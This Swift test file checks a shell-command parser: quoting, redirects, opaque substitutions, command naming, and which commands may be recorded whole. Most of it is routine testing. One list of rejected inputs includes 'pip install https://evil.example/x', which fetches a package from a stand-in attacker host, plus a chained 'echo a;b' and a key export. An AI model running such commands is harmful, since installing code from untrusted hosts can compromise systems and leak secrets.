import Testing

@testable import Dreaming

@Suite struct ShellLineTests {
  @Test func `quotes, settings and targets are told apart`() throws {
    let line = try #require(ShellLine("A=1 make 'all of it' > out.txt 2>&1 && echo \"done\""))
    #expect(line.commands.map(\.words) == [["make", "all of it"], ["echo", "done"]])
    #expect(line.commands[0].settings == ["A=1"])
    #expect(line.commands[0].output == "out.txt")
    #expect(line.links == [.and])
  }

  @Test(arguments: ["echo \"open", "echo 'open", "", "   "])
  func `a line that is not whole is none`(text: String) {
    #expect(ShellLine(text) == nil)
  }

  @Test(arguments: ["echo $(id)", "echo `id`", "cat << EOF", "echo \"$HOME\"", "for i in *"])
  func `what a shell has to work out is opaque`(text: String) throws {
    #expect(try #require(ShellLine(text)).isOpaque)
  }

  @Test func `a command is read without what carries its output`() throws {
    let attempt = try #require(
      CommandAttempt("cd app && CI=1 timeout 60 /usr/bin/python3 -m pytest -q 2>&1 | tail -5"))
    #expect(attempt.words == ["/usr/bin/python3", "-m", "pytest", "-q"])
    #expect(attempt.first == [["cd", "app"]])
    #expect(attempt.settings == ["CI=1"])
    #expect(CommandShape.name(of: attempt.words) == "python3 -m pytest")
  }

  @Test(arguments: [
    "make || ./fallback.sh", "sleep 5 & make", "make > build.log", ":qq", "]}", "cat x | python3",
  ])
  func `what says nothing sure about one command is no attempt`(text: String) {
    #expect(CommandAttempt(text)?.tellsFailure != true)
  }

  @Test func `a failure that is caught tells nothing`() throws {
    #expect(try #require(CommandAttempt("make || true")).tellsFailure == false)
    #expect(try #require(CommandAttempt("make &")).tellsFailure == false)
  }

  @Test(arguments: [
    ("git clone https://example.org/x.git", "git clone"),
    ("npm run build -- --watch", "npm run build"),
    ("npm --silent test", "npm test"), ("./gradlew test", "./gradlew test"), ("ls -la src", "ls"),
    ("bash /tmp/install.sh", "bash"), ("python3 app.py", "python3"),
  ])
  func `a command is named by what it does`(text: String, name: String) throws {
    let words = try #require(CommandAttempt(text)).words
    #expect(CommandShape.name(of: words) == name)
  }

  @Test(arguments: [
    "pip install -r requirements.txt", "npm ci", "source .venv/bin/activate", "cd frontend",
    "docker compose up -d db",
  ])
  func `what holds in every run may be told whole`(text: String) throws {
    #expect(CommandShape.whole(text.split(separator: " ").map(String.init)) == text)
  }

  @Test(arguments: [
    "cd /home/me/project", "pip install /tmp/x.whl", "kill 1234567", "git checkout 3ea751c087f3",
    "pip install https://evil.example/x", "echo a;b", "export KEY=[redacted:key]",
    "npm install a b c d e f g h i j k",
  ])
  func `what holds in one run only is not told`(text: String) {
    #expect(CommandShape.whole(text.split(separator: " ").map(String.init)) == nil)
  }
}
